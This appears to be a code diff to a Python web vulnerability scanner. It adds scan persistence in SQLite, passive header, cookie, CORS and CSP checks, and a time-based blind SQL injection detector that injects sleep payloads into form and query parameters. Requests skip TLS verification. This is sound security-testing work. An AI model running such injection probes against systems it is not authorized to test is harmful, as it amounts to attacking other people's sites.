+                scan_id INTEGER, url TEXT, method TEXT, name TEXT, type TEXT, source TEXT,
+                UNIQUE (scan_id, url, method, name));
+            CREATE TABLE IF NOT EXISTS requests (
+                scan_id INTEGER, method TEXT, url TEXT, status INTEGER, sent_at REAL);
+            CREATE TABLE IF NOT EXISTS findings (
+                scan_id INTEGER, type TEXT, url TEXT, method TEXT, parameter TEXT, payload TEXT,
+                evidence TEXT, found_at REAL, occurrences INTEGER);
+            CREATE TABLE IF NOT EXISTS checks (
+                scan_id INTEGER, name TEXT, PRIMARY KEY (scan_id, name));
+            CREATE INDEX IF NOT EXISTS scans_target ON scans (target, status);
+            CREATE INDEX IF NOT EXISTS parameters_name ON parameters (name);
+            CREATE INDEX IF NOT EXISTS requests_scan ON requests (scan_id, url);
+            CREATE INDEX IF NOT EXISTS findings_scan ON findings (scan_id, type);
+            CREATE INDEX IF NOT EXISTS findings_url ON findings (url);
+        """)
+        # Stores created before passive findings counted their repeats lack the occurrences column
+        if 'occurrences' not in {row[1] for row in self.db.execute("PRAGMA table_info(findings)")}:
+            self.db.execute("ALTER TABLE findings ADD COLUMN occurrences INTEGER")
+        self.db.commit()
+        
+    def start(self, target):
+        """Open a new scan of target"""
+        with self.lock:
+            cursor = self.db.execute("INSERT INTO scans (target, started, status) VALUES (?, ?, 'running')",
+                                     (target, time.time()))
+            self.db.commit()
+        self.scan_id = cursor.lastrowid
+        self.crawl_done = False
+        return self.scan_id
+        
+    def resume(self, target):
+        """Reopen the latest unfinished scan of target, returning its id or None"""
+        with self.lock:
+            row = self.db.execute(
+                "SELECT id, crawl_done FROM scans WHERE target = ? AND status = 'running' ORDER BY id DESC LIMIT 1",
+                (target,)
+            ).fetchone()
+        if not row:
+            return None
+        self.scan_id, self.crawl_done = row[0], bool(row[1])
+        if not self.crawl_done:
+            # An interrupted crawl is redone, so drop what it had recorded
+            with self.lock, self.db:
+                for table in ('urls', 'forms', 'parameters', 'findings', 'checks'):
+                    self.db.execute(f"DELETE FROM {table} WHERE scan_id = ?", (self.scan_id,))
+        return self.scan_id
+        
+    def queue(self, sql, row):
+        """Buffer a row, writing the buffer out once it holds batch_size rows"""
+        with self.lock:
+            self.pending[sql].append(row)
+            self.pending_rows += 1
+            if self.pending_rows >= self.batch_size:
+                self.write_pending()
+                
+    def write_pending(self):
+        """Write buffered rows in one transaction; the caller holds the lock"""
+        if not self.pending_rows:
+            return
+        with self.db:
+            for sql, rows in self.pending.items():
+                self.db.executemany(sql, rows)
+        self.pending.clear()
+        self.pending_rows = 0
+        
+    def flush(self):
+        """Write out any buffered rows"""
+        with self.lock:
+            self.write_pending()
+            
+    def add_url(self, url, status=None):
+        """Record a discovered URL, and its status once fetched"""
+        self.queue("INSERT INTO urls (scan_id, url, status) VALUES (?, ?, ?) "
+                   "ON CONFLICT (scan_id, url) DO UPDATE SET status = COALESCE(excluded.status, urls.status)",
+                   (self.scan_id, url, status))
+        for name in dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query, keep_blank_values=True)):
+            self.queue("INSERT OR IGNORE INTO parameters VALUES (?, ?, ?, ?, ?, ?)",
+                       (self.scan_id, url.split('?')[0], "GET", name, None, 'query'))
+            
+    def add_form(self, form):
+        """Record a form and its inputs"""
+        self.queue("INSERT OR IGNORE INTO forms VALUES (?, ?, ?, ?)",
+                   (self.scan_id, form['action'], form['method'], json.dumps(form['inputs'])))
+        for input_field in form['inputs']:
+            self.queue("INSERT OR IGNORE INTO parameters VALUES (?, ?, ?, ?, ?, ?)",
+                       (self.scan_id, form['action'], form['method'], input_field['name'], input_field['type'], 'form'))
+            
+    def add_request(self, method, url, status):
+        """Record a request sent during the scan"""
+        self.queue("INSERT INTO requests VALUES (?, ?, ?, ?, ?)", (self.scan_id, method, url, status, time.time()))
+        
+    def add_finding(self, vuln):
+        """Record a vulnerability"""
+        self.queue("INSERT INTO findings (scan_id, type, url, method, parameter, payload, evidence, found_at, occurrences) "
+                   "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
+                   (self.scan_id, vuln['type'], vuln['url'], vuln['method'], vuln['parameter'],
+                    vuln['payload'], vuln['evidence'], time.time(), vuln.get('occurrences')))
+        
+    def add_check(self, name):
+        """Record a check as complete so a resumed scan skips it"""
+        self.queue("INSERT OR IGNORE INTO checks VALUES (?, ?)", (self.scan_id, name))
+        
+    def set_crawl_done(self):
+        """Mark the crawl finished, so a resumed scan goes straight to the checks"""
+        with self.lock:
+            self.write_pending()
+            self.db.execute("UPDATE scans SET crawl_done = 1 WHERE id = ?", (self.scan_id,))
+            self.db.commit()
+        self.crawl_done = True
+        
+    def finish(self):
+        """Mark the scan complete"""
+        with self.lock:
+            self.write_pending()
+            self.db.execute("UPDATE scans SET status = 'complete', finished = ? WHERE id = ?",
+                            (time.time(), self.scan_id))
+            self.db.commit()
+            
+    def checks(self):
+        """Return the names of the checks finished in the current scan"""
+        with self.lock:
+            self.write_pending()
+            return {row[0] for row in self.db.execute("SELECT name FROM checks WHERE scan_id = ?", (self.scan_id,))}
+            
+    def counts(self):
+        """Return how many URLs, forms and findings the current scan has recorded"""
+        with self.lock:
+            self.write_pending()
+            return tuple(self.db.execute(f"SELECT COUNT(*) FROM {table} WHERE scan_id = ?", (self.scan_id,)).fetchone()[0]
+                         for table in ('urls', 'forms', 'findings'))
+            
+    def iter_urls(self):
+        """Yield the current scan's URLs in order, streaming rows instead of loading them all"""
+        self.flush()
+        cursor = self.db.cursor()
+        cursor.execute("SELECT url FROM urls WHERE scan_id = ? ORDER BY url", (self.scan_id,))
+        for row in cursor:
+            yield row[0]
+            
+    def iter_forms(self):
+        """Yield the current scan's forms in discovery order"""
+        self.flush()
+        cursor = self.db.cursor()
+        cursor.execute("SELECT action, method, inputs FROM forms WHERE scan_id = ? ORDER BY rowid", (self.scan_id,))
+        for action, method, inputs in cursor:
+            yield {'action': action, 'method': method, 'inputs': json.loads(inputs)}
+            
+    def iter_findings(self):
+        """Yield the current scan's findings in the order they were made"""
+        self.flush()
+        cursor = self.db.cursor()
+        cursor.execute("SELECT type, url, method, parameter, payload, evidence, occurrences FROM findings "
+                       "WHERE scan_id = ? ORDER BY rowid", (self.scan_id,))
+        for row in cursor:
+            yield self.finding(row)
+            
+    @staticmethod
+    def finding(row):
+        """Turn a findings row into a finding dict; only passive findings carry an occurrence count"""
+        vuln = dict(zip(('type', 'url', 'method', 'parameter', 'payload', 'evidence'), row))
+        if row[6] is not None:
+            vuln['occurrences'] = row[6]
+        return vuln
+        
+    def history(self, target=None):
+        """Yield (scan id, started, finding) across past scans, streaming rows instead of loading them all"""
+        sql = ("SELECT scans.id, scans.started, type, url, method, parameter, payload, evidence, occurrences "
+               "FROM findings JOIN scans ON scans.id = findings.scan_id")
+        cursor = self.db.cursor()
+        if target:
+            # Targets are stored as given after normalization, with or without a trailing slash
+            cursor.execute(sql + " WHERE rtrim(scans.target, '/') = ? ORDER BY scans.id, findings.rowid",
+                           (target.rstrip('/'),))
+        else:
+            cursor.execute(sql + " ORDER BY scans.id, findings.rowid")
+        for row in cursor:
+            yield row[0], row[1], self.finding(row[2:])
+            
+    def close(self):
+        """Write out buffered rows and close the store"""
+        self.flush()
+        self.db.close()
+        
+class BlindSQLiDetector:
+    """Time-based blind SQL injection detection against per-endpoint latency baselines"""
+    
+    def __init__(self, scanner):
+        self.scanner = scanner
+        self.calibrations = {}
+        
+    def timed(self, url, method, fields):
+        """Send a request and return how long it took, or None if it failed"""
+        start = time.perf_counter()
+        response = self.scanner.send_params(url, method, fields)
+        if response is None:
+            return None
+        return time.perf_counter() - start
+        
+    def baseline(self, url, method, fields):
+        """Measure normal latency with concurrent benign requests; returns (mean, stdev)"""
+        with ThreadPoolExecutor(max_workers=BLIND_BASELINE_SAMPLES) as executor:
+            samples = [t for t in executor.map(lambda i: self.timed(url, method, fields),
+                                               range(BLIND_BASELINE_SAMPLES)) if t is not None]
+        if len(samples) < 3:
+            return None
+        return statistics.mean(samples), max(statistics.stdev(samples), BLIND_MIN_STDEV)
+        
+    def z_score(self, latency, stats):
+        """How many standard deviations a latency sits above the baseline mean"""
+        mean, stdev = stats
+        return (latency - mean) / stdev
+        
+    def is_delayed(self, latency, stats, sleep):
+        """A delay counts when it is both significant and roughly the size of the requested sleep"""
+        if latency is None:
+            return False
+        return latency - stats[0] >= 0.8 * sleep and self.z_score(latency, stats) >= BLIND_Z_THRESHOLD
+        
+    def inject(self, fields, params, template, sleep):
+        """Append the sleep payload to the original value of each param"""
+        test_fields = fields.copy()
+        for param in params:
+            test_fields[param] = f"{fields[param]}{template.format(sleep=sleep)}"
+        return test_fields
+        
+    def find_delayed(self, url, method, fields, params, template, sleep, stats):
+        """Inject into all params at once and bisect on a delay to find the culprits"""
+        latency = self.timed(url, method, self.inject(fields, params, template, sleep))
+        if not self.is_delayed(latency, stats, sleep):
+            return []
+        if len(params) == 1:
+            return [(params[0], latency)]
+        middle = len(params) // 2
+        return (self.find_delayed(url, method, fields, params[:middle], template, sleep, stats) +
+                self.find_delayed(url, method, fields, params[middle:], template, sleep, stats))
+        
+    def confirm(self, url, method, fields, param, template, sleep, stats):
+        """Check the delay disappears with sleep(0) and scales with a doubled sleep"""
+        quick = self.timed(url, method, self.inject(fields, [param], template, 0))
+        if quick is None or quick - stats[0] >= 0.5 * sleep:
+            return False
+        return self.is_delayed(self.timed(url, method, self.inject(fields, [param], template, sleep * 2)),
+                               stats, sleep * 2)
+        
+    def endpoint_key(self, target):
+        """Hashable key for an endpoint, the field values it is tested with and the fields injected"""
+        url, method, fields, params = target
+        return url, method, tuple(sorted(fields.items())), tuple(params)
+        
+    def calibrate(self, target):
+        """Measure an endpoint's latency baseline and pick its sleep; returns (stats, sleep) or None"""
+        url, method, fields, _ = target
+        stats = self.baseline(url, method, fields)
+        if not stats:
+            return None
+            
+        # Pick the shortest sleep that stands well clear of the noise, leaving room for the doubled
+        # confirmation sleep inside the request timeout
+        mean, stdev = stats
+        sleep = max(BLIND_MIN_SLEEP, math.ceil(BLIND_Z_THRESHOLD * stdev))
+        limit = min(BLIND_MAX_SLEEP, int((self.scanner.timeout - mean) / 2.5))
+        if sleep > limit:
+            self.scanner.log(f"Skipping blind SQL Injection checks on {url}: latency too noisy "
+                             f"({mean:.2f}s +/- {stdev:.2f}s)", "WARNING")
+            return None
+        self.scanner.log(f"Latency baseline for {url}: {mean:.3f}s +/- {stdev:.3f}s, using {sleep}s sleeps")
+        return stats, sleep
+        
+    def calibrate_all(self, targets):
+        """Measure baselines one endpoint at a time before any probes run, so each sees only normal load"""
+        for target in targets:
+            if self.scanner.budget_exhausted():
+                return
+            self.calibrations[self.endpoint_key(target)] = self.calibrate(target)
+            
+    def test_endpoint(self, target):
+        """Run time-based checks against one endpoint's parameters, using its baseline if already measured"""
+        url, method, fields, params = target
+        key = self.endpoint_key(target)
+        calibration = self.calibrations.pop(key) if key in self.calibrations else self.calibrate(target)
+        if not calibration:
+            return
+        stats, sleep = calibration
+        mean, stdev = stats
+        
+        remaining = list(params)
+        for dbms, templates in BLIND_SQLI_PAYLOADS.items():
+            for template in templates:
+                if not remaining:
+                    return
+                for param, latency in self.find_delayed(url, method, fields, remaining, template, sleep, stats):
+                    if not self.confirm(url, method, fields, param, template, sleep, stats):
+                        continue
+                    payload = template.format(sleep=sleep)
+                    self.scanner.log(f"Potential blind SQL Injection ({dbms}) found at {url} "
+                                     f"with parameter {param}", "VULN")
+                    self.scanner.vulnerabilities.append({
+                        'type': 'Blind SQL Injection',
+                        'url': url,
+                        'method': method,
+                        'parameter': param,
+                        'payload': payload,
+                        'evidence': f"{dbms} sleep delayed the response {latency - mean:.2f}s "
+                                    f"(baseline {mean:.2f}s +/- {stdev:.2f}s, z={self.z_score(latency, stats):.1f}); "
+                                    f"sleep(0) was fast and sleep({sleep * 2}) scaled"
+                    })
+                    remaining.remove(param)
+                    
+def path_pattern(url):
+    """Reduce a URL to its host and directory, with identifier segments wildcarded"""
+    parsed = urllib.parse.urlsplit(url)
+    # Pages in one directory are almost always served with the same headers
+    directory = parsed.path.rsplit('/', 1)[0].split('/')
+    segments = ['*' if ID_SEGMENT_REGEX.match(segment) else segment for segment in directory]
+    return parsed.netloc.lower(), '/'.join(segments) + '/'
+
+def set_cookie_headers(response):
+    """Return every Set-Cookie header of a response as a separate string"""
+    raw = getattr(response, 'raw', None)
+    if raw is not None and hasattr(getattr(raw, 'headers', None), 'getlist'):
+        values = raw.headers.getlist('Set-Cookie')
+        if values:
+            return values
+    if hasattr(response.headers, 'get_list'):
+        return response.headers.get_list('Set-Cookie')
+    # requests folds repeated headers into one; split before each name=value, not inside Expires dates
+    value = response.headers.get('Set-Cookie')
+    return re.split(r',\s*(?=[^;,=\s]+=)', value) if value else []
+
+class PassiveAnalyzer:
+    """Header, cookie, CORS and CSP checks run on responses the crawl already fetched"""
+    
+    def __init__(self, scanner):
+        self.scanner = scanner
+        self.findings = {}
+        self.observed = 0
+        self.lock = threading.Lock()
+        
+    def observe(self, url, response):
+        """Analyze one response without sending any requests"""
+        headers = response.headers
+        https = url.startswith('https://')
+        issues = []
+        if 'html' in headers.get('Content-Type', 'text/html').lower():
+            issues += self.header_issues(headers, https)
+            issues += self.csp_issues(headers)
+        issues += self.cookie_issues(response, https)
+        issues += self.cors_issues(headers)
+        
+        host, pattern = path_pattern(url)
+        with self.lock:
+            self.observed += 1
+            for vuln_type, parameter, evidence, site_wide in issues:
+                self.report(url, (vuln_type, parameter, host, None if site_wide else pattern), evidence)
+                
+    def report(self, url, key, evidence):
+        """Record a finding once per host (site-wide issues) or directory pattern, counting repeats"""
+        if key in self.findings:
+            self.findings[key]['occurrences'] += 1
+            return
+        vuln_type, parameter, host, pattern = key
+        self.scanner.log(f"{evidence} on {url}", "WARNING")
+        finding = {
+            'type': vuln_type,
+            'url': url,
+            'method': 'GET',
+            'parameter': parameter,
+            'payload': None,
+            'evidence': evidence,
+            'occurrences': 1
+        }
+        self.findings[key] = finding
+        self.scanner.vulnerabilities.append(finding)
+        
+    def header_issues(self, headers, https):
+        """Missing security headers on an HTML page"""
+        issues = []
+        if https and 'Strict-Transport-Security' not in headers:
+            issues.append(('Missing Security Header', 'Strict-Transport-Security', 'HSTS header missing', True))
+        csp = headers.get('Content-Security-Policy', '').lower()
+        for header, description in SECURITY_HEADERS.items():
+            if header in headers:
+                continue
+            if header == 'X-Frame-Options' and 'frame-ancestors' in csp:
+                continue
+            if header == 'Content-Security-Policy' and 'Content-Security-Policy-Report-Only' in headers:
+                description = 'CSP is report-only and not enforced'
+            issues.append(('Missing Security Header', header, description, False))
+        if headers.get('X-Content-Type-Options', 'nosniff').strip().lower() != 'nosniff':
+            issues.append(('Missing Security Header', 'X-Content-Type-Options',
+                           f"X-Content-Type-Options is {headers['X-Content-Type-Options']!r}, not nosniff", False))
+        return issues
+        
+    def csp_issues(self, headers):
+        """Script sources in the Content-Security-Policy that defeat its purpose"""
+        policy = headers.get('Content-Security-Policy')
+        if not policy:
+            return []
+        directives = {}
+        for directive in policy.split(';'):
+            parts = directive.strip().lower().split()
+            if parts:
+                directives.setdefault(parts[0], parts[1:])
+                
+        name = 'script-src' if 'script-src' in directives else 'default-src'
+        sources = directives.get(name)
+        if sources is None:
+            return [('Weak Content Security Policy', 'script-src',
+                     'CSP has neither script-src nor default-src, so scripts are unrestricted', False)]
+        # Browsers ignore 'unsafe-inline' when a nonce or hash is present
+        nonced = any(source.startswith(("'nonce-", "'sha256-", "'sha384-", "'sha512-")) for source in sources)
+        weak = [source for source in sources if source in UNSAFE_CSP_SOURCES
+                and not (source == "'unsafe-inline'" and nonced)]
+        if weak:
+            return [('Weak Content Security Policy', name, f"CSP {name} allows {' '.join(weak)}", False)]
+        return []
+        
+    def cookie_issues(self, response, https):
+        """Cookies set without Secure, HttpOnly or SameSite"""
+        issues = []
+        for cookie in set_cookie_headers(response):
+            name = cookie.split('=', 1)[0].strip()
+            attributes = {}
+            for attribute in cookie.split(';')[1:]:
+                key, _, value = attribute.partition('=')
+                attributes[key.strip().lower()] = value.strip().lower()
+            missing = []
+            if https and 'secure' not in attributes:
+                missing.append('Secure')
+            if 'httponly' not in attributes:
+                missing.append('HttpOnly')
+            if 'samesite' not in attributes:
+                missing.append('SameSite')
+            elif attributes['samesite'] == 'none' and 'secure' not in attributes and not https:
+                missing.append('Secure (required by SameSite=None)')
+            if missing:
+                issues.append(('Insecure Cookie', name, f"Cookie {name} set without {', '.join(missing)}", True))
+        return issues
+        
+    def cors_issues(self, headers):
+        """Access-Control-Allow-Origin values that open responses to other sites"""
+        origin = headers.get('Access-Control-Allow-Origin', '').strip()
+        credentials = headers.get('Access-Control-Allow-Credentials', '').strip().lower() == 'true'
+        if origin == 'null':
+            return [('CORS Misconfiguration', 'Access-Control-Allow-Origin',
+                     'CORS allows the null origin (sandboxed iframes and local files)', False)]
+        if origin == '*' and credentials:
+            return [('CORS Misconfiguration', 'Access-Control-Allow-Origin',
+                     'CORS allows any origin together with credentials', False)]
+        return []
+        
+def input_priority(form):
+    """Score how valuable an input is to test: credentials, admin areas and state-changing forms first"""
+    priority = 0
+    if any(input_field['type'].lower() == 'password' for input_field in form['inputs']):
+        priority += 40
+    path = urllib.parse.urlparse(form['action']).path.lower()
+    if any(word in path for word in HIGH_VALUE_PATHS):
+        priority += 25
+    if form['method'] == "POST":
+        priority += 10
+    return priority
+
+class ScanScheduler:
+    """Run scan checks highest priority first until the request budget or time limit runs out"""
+    
+    def __init__(self, scanner):
+        self.scanner = scanner
+        self.tasks = []
+        self.counter = itertools.count()
+        self.lock = threading.Lock()
+        self.skipped = 0
+        self.resumed = 0
+        self.completed = set()
+        
+    def add(self, priority, name, func, *args):
+        """Queue a check; ties keep insertion order and checks a resumed scan already ran are dropped"""
+        if name in self.scanner.completed_checks:
+            self.resumed += 1
+            return
+        heapq.heappush(self.tasks, (-priority, next(self.counter), name, func, args))
+        
+    def next_task(self):
+        """Pop the most valuable remaining check, or None when done or out of budget"""
+        with self.lock:
+            if self.tasks and self.scanner.budget_exhausted():
+                self.skipped += len(self.tasks)
+                self.tasks.clear()
+            if not self.tasks:
+                return None
+            return heapq.heappop(self.tasks)
+            
+    def worker(self):
+        """Keep taking checks off the queue"""
+        while True:
+            task = self.next_task()
+            if task is None:
+                return
+            priority, _, name, func, args = task
+            self.scanner.log(f"Running {name} (priority {-priority})")
+            try:
+                func(*args)
+            except Exception as e:
+                self.scanner.log(f"Error in {name}: {e}", "ERROR")
+                continue
+            # A check cut short by the budget has to run again on resume
+            if not self.scanner.stop_reason:
+                self.completed.add(name)
+                self.scanner.save_progress(name)
+                
+    def run(self):
+        """Run checks on the scanner's thread count"""
+        with ThreadPoolExecutor(max_workers=self.scanner.threads) as executor:
+            for _ in range(self.scanner.threads):
+                executor.submit(self.worker)
+                
 class WebVulnScanner:
     def __init__(self, target_url, cookies=None, headers=None, timeout=10, threads=10, 
                  verbose=False, output=None, check_xss=True, check_sqli=True, 
-                 check_dirs=True, check_headers=True, user_input=None):
+                 check_dirs=True, check_headers=True, user_input=None,
+                 pool_connections=10, pool_maxsize=None, http2=False, wordlist=None,
+                 max_body_size=MAX_BODY_SIZE, cache=None, cache_max_size=CACHE_MAX_SIZE,
+                 cache_max_age=CACHE_MAX_AGE, since=None, seed_sitemaps=True, check_blind_sqli=False,
+                 max_requests=None, max_time=None, parse_workers=0, store=None, resume=False):
         self.target_url = self.normalize_url(target_url)
         self.cookies = self.parse_cookies(cookies) if cookies else {}
         self.headers = self.parse_headers(headers) if headers else {}
@@ -202,20 +1512,102 @@ class WebVulnScanner:
         self.output = output
         self.check_xss = check_xss
         self.check_sqli = check_sqli
+        self.check_blind_sqli = check_blind_sqli
         self.check_dirs = check_dirs
         self.check_headers = check_headers
+        self.passive = PassiveAnalyzer(self) if check_headers else None
         self.user_input = user_input
+        self.wordlist = wordlist
+        self.since = since
+        self.max_requests = max_requests
+        self.max_time = max_time
+        self.start_time = time.time()
+        self.requests_sent = 0
+        self.stop_reason = None
+        self.skipped_checks = 0
+        self.inventory = {}
+        self.budget_lock = threading.Lock()
+        self.seed_sitemaps = seed_sitemaps
+        self.max_body_size = max_body_size
+        self.parse_workers = parse_workers
+        self.pool_connections = pool_connections
+        # One pooled connection per worker thread unless told otherwise
+        self.pool_maxsize = pool_maxsize or threads
+        self.request_slots = threading.BoundedSemaphore(min(threads, self.pool_maxsize))
         
         # Add a random user agent if not specified
         if 'User-Agent' not in self.headers:
             self.headers['User-Agent'] = random.choice(USER_AGENTS)
             
-        self.session = requests.Session()
+        self.session = self.create_session()
+        self.http2_client = self.create_http2_client() if http2 else None
+        self.cache = ResponseCache(cache, cache_max_size, cache_max_age) if cache else None
+        self.store = ScanStore(store) if store else None
+        self.resume = resume
+        self.completed_checks = set()
+        self.progress_lock = threading.Lock()
         self.forms = []
         self.links = set()
         self.vulnerabilities = []
         
-    def normalize_url(self, url):
+        # Crawl deduplication state
+        self.visited = set()
+        self.form_signatures = set()
+        self.page_signatures = {}
+        self.pattern_signatures = {}
+        self.pattern_counts = {}
+        self.template_patterns = set()
+        
+    def create_session(self):
+        """Create a requests session with a connection pool sized for the thread count"""
+        session = requests.Session()
+        adapter = HTTPAdapter(
+            pool_connections=self.pool_connections,
+            pool_maxsize=self.pool_maxsize,
+            pool_block=False
+        )
+        session.mount('http://', adapter)
+        session.mount('https://', adapter)
+        return session
+        
+    def create_http2_client(self):
+        """Create an HTTP/2 client so concurrent requests share one multiplexed connection"""
+        if httpx is None:
+            self.log("httpx is not installed, falling back to HTTP/1.1 keep-alive", "WARNING")
+            return None
+        try:
+            return httpx.Client(
+                http2=True,
+                cookies=self.cookies,
+                verify=False,
+                timeout=self.timeout,
+                limits=httpx.Limits(
+                    max_connections=self.pool_connections * self.pool_maxsize,
+                    max_keepalive_connections=self.pool_maxsize
+                )
+            )
+        except ImportError:
+            self.log("h2 is not installed, falling back to HTTP/1.1 keep-alive", "WARNING")
+            return None
+            
+    def connection_stats(self):
+        """Summarize keep-alive reuse across the session's connection pools"""
+        stats = {'requests': 0, 'connections': 0, 'reused': 0, 'reuse_ratio': 0.0}
+        for adapter in set(self.session.adapters.values()):
+            pools = adapter.poolmanager.pools
+            for key in pools.keys():
+                pool = pools.get(key)
+                if pool is None:
+                    continue
+                stats['requests'] += pool.num_requests
+                stats['connections'] += pool.num_connections
+        stats['reused'] = max(stats['requests'] - stats['connections'], 0)
+        if stats['requests']:
+            stats['reuse_ratio'] = stats['reused'] / stats['requests']
+        return stats
+        
+    @staticmethod
+    def normalize_url(url):
         """Ensure URL has a scheme"""
         if not url.startswith(('http://', 'https://')):
             url = 'http://' + url
@@ -247,143 +1639,408 @@ class WebVulnScanner:
             timestamp = time.strftime("%Y-%m-%d %H:%M:%S", time.localtime())
             print(f"[{timestamp}] [{level}] {message}")
             
-    def request(self, url, method="GET", data=None, params=None, follow_redirects=True):
+    def request(self, url, method="GET", data=None, params=None, follow_redirects=True, stream=False,
+                headers=None):
         """Make HTTP request with error handling"""
+        # Bodies are streamed and only the first max_body_size bytes of text responses are kept,
+        # so memory per request stays bounded. stream=True hands back the raw streaming response.
+        with self.budget_lock:
+            reason = self.budget_exhausted()
+            if reason:
+                if not self.stop_reason:
+                    self.stop_reason = reason
+                    self.log(f"Stopping: {reason} reached after {self.requests_sent} requests", "WARNING")
+                return None
+            self.requests_sent += 1
+            
+        # Checks may fan out into their own pools (content discovery, blind SQLi baselines); one scanner-wide
+        # limit keeps requests in flight within the connection pool however the work is nested
+        with self.request_slots:
+            headers = {**self.headers, **headers} if headers else self.headers
+            if self.http2_client:
+                return self.request_http2(url, method, data, params, follow_redirects, stream, headers)
+            
+            try:
+                if method.upper() in ("GET", "HEAD"):
+                    response = self.session.request(
+                        method.upper(),
+                        url, 
+                        params=params,
+                        cookies=self.cookies,
+                        headers=headers,
+                        timeout=self.timeout,
+                        verify=False,
+                        allow_redirects=follow_redirects,
+                        stream=True
+                    )
+                else:  # POST
+                    response = self.session.post(
+                        url, 
+                        data=data,
+                        cookies=self.cookies,
+                        headers=headers,
+                        timeout=self.timeout,
+                        verify=False,
+                        allow_redirects=follow_redirects,
+                        stream=True
+                    )
+                if self.store:
+                    # The prepared URL of the first request carries the GET parameters
+                    sent = response.history[0] if response.history else response
+                    self.store.add_request(method.upper(), sent.request.url, response.status_code)
+                if stream:
+                    return response
+                return self.read_limited(response, response.iter_content)
+            except requests.exceptions.RequestException as e:
+                self.log(f"Request error: {e}", "ERROR")
+                return None
+            
+    def request_http2(self, url, method="GET", data=None, params=None, follow_redirects=True, stream=False,
+                      headers=None):
+        """Make HTTP request over the shared HTTP/2 client"""
         try:
-            if method.upper() == "GET":
-                response = self.session.get(
-                    url, 
-                    params=params,
-                    cookies=self.cookies,
-                    headers=self.headers,
-                    timeout=self.timeout,
-                    verify=False,
-                    allow_redirects=follow_redirects
-                )
-            else:  # POST
-                response = self.session.post(
-                    url, 
-                    data=data,
-                    cookies=self.cookies,
-                    headers=self.headers,
-                    timeout=self.timeout,
-                    verify=False,
-                    allow_redirects=follow_redirects
-                )
-            return response
-        except requests.exceptions.RequestException as e:
+            request = self.http2_client.build_request(
+                method.upper(),
+                url,
+                params=params,
+                data=data,
+                headers=headers or self.headers
+            )
+            response = self.http2_client.send(request, stream=True, follow_redirects=follow_redirects)
+            if self.store:
+                self.store.add_request(method.upper(), url, response.status_code)
+            if stream:
+                return response
+            return self.read_limited(response, response.iter_bytes)
+        except httpx.HTTPError as e:
             self.log(f"Request error: {e}", "ERROR")
             return None
             
-    def extract_forms(self, response):
+    def read_limited(self, response, iter_chunks):
+        """Read at most max_body_size bytes of a text response; skip other content types entirely"""
+        content_type = response.headers.get('Content-Type', '').split(';')[0].strip().lower()
+        body = bytearray()
+        response.truncated = False
+        try:
+            if content_type and not content_type.startswith(TEXT_CONTENT_TYPES):
+                response.truncated = True
+                self.log(f"Skipping {content_type} body of {response.url}")
+            else:
+                for chunk in iter_chunks(BODY_CHUNK_SIZE):
+                    body += chunk
+                    if len(body) >= self.max_body_size:
+                        response.truncated = True
+                        del body[self.max_body_size:]
+                        break
+        finally:
+            response.close()
+            
+        # Later code reads .text / .content as usual, which now only sees the kept prefix
+        response._content = bytes(body)
+        return response
+        
+    def extract_forms(self, response, soup=None):
         """Extract forms from response"""
-        forms = []
-        if response and response.text:
-            soup = BeautifulSoup(response.text, 'html.parser')
-            for form in soup.find_all('form'):
-                form_info = {
-                    'action': form.get('action', ''),
-                    'method': form.get('method', 'get').upper(),
-                    'inputs': []
-                }
-                
-                # Handle relative URLs
-                if form_info['action'] and not form_info['action'].startswith(('http://', 'https://')):
-                    if form_info['action'].startswith('/'):
-                        base_url = '/'.join(self.target_url.split('/')[:3])  # http(s)://domain.com
-                        form_info['action'] = base_url + form_info['action']
-                    else:
-                        form_info['action'] = self.target_url.rstrip('/') + '/' + form_info['action']
-                
-                # If action is empty, use the current URL
-                if not form_info['action']:
-                    form_info['action'] = response.url
-                
-                # Extract form inputs
-                for input_field in form.find_all(['input', 'textarea', 'select']):
-                    input_type = input_field.get('type', '')
-                    input_name = input_field.get('name', '')
-                    input_value = input_field.get('value', '')
-                    
-                    if input_name:  # Only include inputs with names
-                        form_info['inputs'].append({
-                            'type': input_type,
-                            'name': input_name,
-                            'value': input_value
-                        })
-                
-                forms.append(form_info)
-        return forms
+        if not (response and response.text):
+            return []
+        soup = soup or BeautifulSoup(response.text, 'html.parser')
+        return parse_forms(soup, page_base(soup, str(response.url), self.target_url))
         
-    def extract_links(self, response):
+    def extract_links(self, response, soup=None):
         """Extract links from response"""
-        links = set()
-        if response and response.text:
-            soup = BeautifulSoup(response.text, 'html.parser')
-            base_url = '/'.join(self.target_url.split('/')[:3])  # http(s)://domain.com
+        if not (response and response.text):
+            return set()
+        soup = soup or BeautifulSoup(response.text, 'html.parser')
+        host = urllib.parse.urlsplit(canonicalize_url(self.target_url)).netloc
+        return parse_links(soup, page_base(soup, str(response.url), self.target_url), host)
+        
+    def cache_key(self, url):
+        """Cache key for a crawled page under this scan's cookies and headers"""
+        return ResponseCache.make_key("GET", url, self.headers, self.cookies)
+        
+    def fetch_page(self, url):
+        """Fetch a page for crawling, revalidating it against the response cache when enabled"""
+        if not self.cache:
+            return self.request(url), None
             
-            for a_tag in soup.find_all('a', href=True):
-                href = a_tag['href']
-                
-                # Skip empty links, javascript, and anchors
-                if not href or href.startswith(('javascript:', '#', 'mailto:', 'tel:')):
-                    continue
-                    
-                # Handle relative URLs
-                if not href.startswith(('http://', 'https://')):
-                    if href.startswith('/'):
-                        href = base_url + href
-                    else:
-                        href = self.target_url.rstrip('/') + '/' + href
+        key = self.cache_key(url)
+        entry = self.cache.get(key)
+        response = self.request(url, headers=ResponseCache.conditional_headers(entry) if entry else None)
+        
+        if response is not None and entry and response.status_code == 304:
+            self.log(f"Not modified: {url}")
+            self.cache.touch(key)
+            return self.cache.restore(entry, response), entry['extracted']
+        self.cache.miss()
+        return response, None
+        
+    def crawl(self, url=None, depth=1, seeds=None):
+        """Crawl the website breadth-first to discover content; return False if the budget cut it short"""
+        frontier = [url or self.target_url] + list(seeds or [])
+        frontier = [page_url for page_url in map(canonicalize_url, frontier) if page_url]
+        
+        # HTML parsing is CPU-bound, so large crawls can hand it to other processes
+        parse_pool = ProcessPoolExecutor(max_workers=self.parse_workers) if self.parse_workers else None
+        try:
+            return self.crawl_levels(frontier, depth, parse_pool)
+        finally:
+            if parse_pool:
+                parse_pool.shutdown()
                 
-                # Only include links from the same domain
-                if base_url in href:
-                    links.add(href)
+    def crawl_levels(self, frontier, depth, parse_pool):
+        """Fetch and process the frontier level by level, returning False if stopped before it was drained"""
+        for level in range(depth):
+            next_frontier = []
